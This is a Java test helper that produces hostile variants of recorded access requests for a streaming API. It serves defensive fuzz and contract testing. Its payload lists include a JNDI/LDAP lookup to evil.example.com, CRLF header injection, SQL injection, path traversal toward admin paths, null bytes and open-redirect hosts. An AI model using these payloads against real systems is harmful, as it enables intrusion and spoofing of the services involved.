package tv.usher.api.contract;

import java.util.ArrayList;
import java.util.List;
import tv.usher.api.AccessRequest;
import tv.usher.api.Action;

/** What viewers and their callers may ask, at their worst. */
final class HostileRequests {

    /** Stands in many of the queries, in the shape of most middlewares' tokens. */
    static final String TOKEN = "5ec2e75ec2e75ec2e75ec2e75ec2e75e";

    /** Together with a recorded query, no more parameters than a query may have. */
    private static final int MANY = 200;

    private static final List<String> QUERIES = List.of(
            "",
            "&",
            "&&;&",
            "=",
            "=x&=",
            "token",
            "token=",
            "token=" + TOKEN,
            "token=" + TOKEN + "&a=%2F+b&a=&x",
            "token=" + TOKEN + "&token=" + TOKEN,
            "token=" + TOKEN + "&Token=x&tok%65n=y&token[]=z",
            "a=1;token=" + TOKEN,
            "token[]=" + TOKEN,
            "token[=" + TOKEN,
            "token%00=" + TOKEN,
            "token=" + TOKEN + "%00",
            "token=" + TOKEN + "%0d%0aX-Real-Ip:%20127.0.0.1",
            "token=%",
            "token=%zz%4",
            "token=%ff%fe%c0%af",
            "token=\u0080\u00ff",
            "token=../../" + TOKEN,
            "token=1_playback",
            "token=${jndi:ldap://evil.example.com/a}",
            "token='%20or%201=1--",
            "token=\"<script>\\^`{|}",
            "?token=" + TOKEN,
            "/@evil.example.com:1/?a",
            "//evil.example.com/",
            "host=evil.example.com&address=http://evil.example.com&url=http://evil.example.com&portal=evil.example.com",
            "ip=127.0.0.1&session_id=1&name=other&clientid=1",
            "token=" + "a".repeat(65_536),
            "token=" + TOKEN + "&" + "a=1&".repeat(MANY),
            "token=1&".repeat(MANY));

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "evil.example.com:1",
            "http://evil.example.com/?token=" + TOKEN,
            "@evil.example.com",
            "../../..//%2e%2e/",
            "%0d%0aX-Real-Ip: 127.0.0.1",
            "a,b;c=\"d\"",
            "\u0080\u00ff",
            "${jndi:ldap://evil.example.com/a}",
            "x".repeat(65_536));

    private HostileRequests() {}

    /** In the place of a value of the query; raw, as viewers send it. */
    private static final List<String> VALUES = List.of(
            "",
            "&x=y",
            "%26x%3Dy",
            "%22%2C%22x%22%3A%22y",
            "\"x",
            "%2F",
            "..%2F..%2Fadmin",
            "../../admin",
            "..",
            "%00",
            "%0D%0AX-Key:%20y",
            "%",
            "%zz",
            "%FF%FE",
            "%D0%90%D0%BD%D0%BD%D0%B0",
            "-1",
            "a".repeat(8 * 1024),
            "a".repeat(100) + "!",
            TOKEN);

    /** The given requests, and worse ones made of them. */
    static List<AccessRequest> like(List<AccessRequest> recorded) {
        List<AccessRequest> all = new ArrayList<>(recorded);
        for (String query : QUERIES) {
            all.add(AccessRequest.builder().query(query).build());
            recorded.forEach(it -> all.add(with(it, query)));
            recorded.forEach(it -> all.add(with(it, it.query().raw() + "&" + query)));
        }
        for (String text : TEXTS) {
            recorded.forEach(it -> all.add(everywhere(text, it, Action.PLAY)));
            recorded.forEach(it -> all.add(everywhere(text, it, Action.PUBLISH)));
        }
        for (AccessRequest it : recorded) {
            for (String value : VALUES) {
                withEachParameter(it, value, all);
                withEachSegment(it, value.replace("&", "%26").replace("\"", "%22"), all);
            }
        }
        return all;
    }

    private static void withEachParameter(AccessRequest recorded, String value, List<AccessRequest> to) {
        String[] pairs = recorded.query().raw().split("&");
        for (int i = 0; i < pairs.length; i++) {
            String[] changed = pairs.clone();
            int equals = pairs[i].indexOf('=');
            changed[i] = pairs[i].substring(0, equals + 1) + value;
            to.add(with(recorded, String.join("&", changed)));
        }
    }

    private static void withEachSegment(AccessRequest recorded, String value, List<AccessRequest> to) {
        String[] segments = recorded.path().split("/", -1);
        for (int i = 1; i < segments.length; i++) {
            String[] changed = segments.clone();
            changed[i] = value;
            to.add(recorded.toBuilder().path(String.join("/", changed)).build());
        }
    }

    static AccessRequest with(AccessRequest recorded, String query) {
        return recorded.toBuilder().query(query).build();
    }

    private static AccessRequest everywhere(String text, AccessRequest recorded, Action action) {
        return AccessRequest.builder()
                .session(text)
                .channel(text)
                .clientAddress(text)
                .path(text)
                .host(text)
                .origin(text)
                .userAgent(text)
                .query(recorded.query())
                .action(action)
                .protocol(text)
                .build();
    }
}
